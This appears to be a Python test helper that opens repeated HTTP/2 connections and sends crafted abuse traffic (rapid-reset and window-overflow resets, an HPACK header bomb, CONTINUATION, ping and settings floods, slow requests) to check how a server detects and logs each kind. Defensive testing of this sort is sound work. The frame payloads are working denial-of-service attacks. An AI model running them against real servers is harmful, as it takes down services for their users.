"""What abuses HTTP/2, frame by frame, and a process that does so until it is stopped:

    http2_abuse.py [--honest] NAME ADDRESS PORT
                                       keeps AT_ONCE connections that say it; each is closed when the
                                       other end has closed it, or HOLD_SECONDS later, and dialled
                                       anew every EVERY_SECONDS at most; prints "at it"; --honest:
                                       it asks for the same and reads it
"""

import contextlib
import select
import socket
import sys
import time
from collections.abc import Iterator
from pathlib import Path

from http2_peer import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    fields,
    frame,
    hello,
    literal,
    request,
)

AT_ONCE = 4
EVERY_SECONDS = 0.1
HOLD_SECONDS = 0.5

ALLOWED = frame(SETTINGS, ACK, 0)
TRICKLE = 25  # streams
STREAMS = range(1, 8, 2)  # few: what is measured is their patience, not their number
ENTRY = b"\x40" + literal("x-bomb", "v" * 4000)[1:]  # with indexing: then one octet is the field


def post(stream: int) -> bytes:
    return request(stream, "/", END_HEADERS, method="POST")


# What is said behind the preface, and what the sidecar counts for it: the reason of an offence, or
# the outcome of requests. Of several pieces each waits for an answer to the one before.
Said = bytes | list[bytes]
OFFENCES: dict[str, tuple[str, Said]] = {
    "rapid-reset": (
        "resets",
        b"".join(
            request(stream) + frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
            for stream in range(1, 1201, 2)
        ),
    ),
    "made-you-reset": (
        "made_resets",
        [  # few at once: more streams than are allowed would be another offence
            b"".join(
                request(stream) + frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")  # overflows
                for stream in range(first, first + 2 * TRICKLE, 2)
            )
            for first in range(1, 4001, 2 * TRICKLE)
        ],
    ),
    "hpack-bomb": (
        "made_resets",
        frame(HEADERS, END_STREAM | END_HEADERS, 1, fields() + ENTRY + b"\xbe" * 12_000),
    ),
    "continuations": (
        "continuations",
        frame(HEADERS, 0, 1, fields()) + frame(CONTINUATION, 0, 1, b"") * 100,
    ),
    "head-in-continuations": (
        "continuations",
        frame(HEADERS, 0, 1, fields()) + frame(CONTINUATION, 0, 1, literal("x", "v" * 9000)) * 12,
    ),
    "settings": ("acknowledgements", frame(SETTINGS, 0, 0, b"\0\4\0\1\0\0") * 3000),
    "pings": ("acknowledgements", frame(PING, 0, 0, b"12345678") * 3000),
    "priorities": ("idle_frames", frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * 3000),
    "empty-data": ("idle_frames", post(1) + frame(DATA, 0, 1) * 5000),
    "window-updates": ("idle_frames", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 3000),
    "half-a-head": ("slow_head", frame(HEADERS, 0, 1, fields())),
}
# What the log says of each reason.
WORDS = {
    "resets": "resets too many streams",
    "made_resets": "makes us reset too many streams",
    "continuations": "too many CONTINUATION frames",
    "acknowledgements": "too many frames that want an answer",
    "idle_frames": "too many frames that move nothing",
    "slow_head": "the request head did not arrive",
}
# What asks no less, and does so as it should: its price is not an abuse's.
HONEST: dict[str, Said] = {
    "shut-windows": frame(SETTINGS, 0, 0, b"\0\4" + (1 << 20).to_bytes(4, "big"))
    + frame(WINDOW_UPDATE, 0, 0, (1 << 24).to_bytes(4, "big"))
    + b"".join(request(s) for s in STREAMS),
}
OUTCOMES: dict[str, tuple[str, Said]] = {
    "huge-head": (
        "head_too_large",
        b"".join(
            frame(HEADERS, END_STREAM, stream, fields())
            + frame(CONTINUATION, 0, stream, literal("x", "v" * 16_000)) * 5
            + frame(CONTINUATION, END_HEADERS, stream, b"")
            for stream in (1, 3)
        ),
    ),
    "slow-bodies": ("body_timeout", b"".join(post(s) + frame(DATA, 0, s, b"x") for s in STREAMS)),
    "shut-windows": (
        "idle_timeout",
        frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0") + b"".join(request(s) for s in STREAMS),
    ),
    "tiny-data": ("body_timeout", post(1) + frame(DATA, 0, 1, b"x") * 5000),
}


@contextlib.contextmanager
def abusing(pod, name: str, address: str, port: int, honest: bool = False) -> Iterator:
    """Such a process in this pod, at it within the block."""
    here = Path(__file__)
    script = f"{pod.bind(here.parent, 'abuse')}/{here.name}"
    how = ["--honest"] if honest else []
    process = pod.start(["python3", script, *how, name, address, str(port)], name="http2-abuse")
    process.wait_for_line("at it")
    try:
        yield process
    finally:
        process.stop()


class Talk:
    """One connection: says all of it, reads whatever comes."""

    def __init__(self, address: str, port: int, said: Said):
        self.channel = socket.create_connection((address, port), 5)
        self.channel.setblocking(False)
        first, *self.pieces = [said] if isinstance(said, bytes) else said
        self.rest = memoryview(hello() + ALLOWED + first)
        self.ends = time.monotonic() + HOLD_SECONDS

    def go_on(self) -> bool:
        """False: it is over."""
        try:
            if self.rest:
                self.rest = self.rest[self.channel.send(self.rest) :]
            while True:
                if not self.channel.recv(1 << 16):
                    return False
                if not self.rest and self.pieces:
                    self.rest = memoryview(self.pieces.pop(0))
        except BlockingIOError:
            return time.monotonic() < self.ends
        except OSError:
            return False


def abuse(said: Said, address: str, port: int) -> None:
    talks: list[Talk] = []
    due = time.monotonic()
    print("at it", flush=True)
    while True:
        if len(talks) < AT_ONCE and time.monotonic() >= due:
            due = time.monotonic() + EVERY_SECONDS
            with contextlib.suppress(OSError):
                talks.append(Talk(address, port, said))
        writing = [one.channel for one in talks if one.rest]
        select.select([one.channel for one in talks], writing, [], 0.02)
        for one in [one for one in talks if not one.go_on()]:
            one.channel.close()
            talks.remove(one)


if __name__ == "__main__":
    honest = sys.argv[1] == "--honest"
    name, address, port = sys.argv[-3:]
    abuse(HONEST[name] if honest else {**OFFENCES, **OUTCOMES}[name][1], address, int(port))
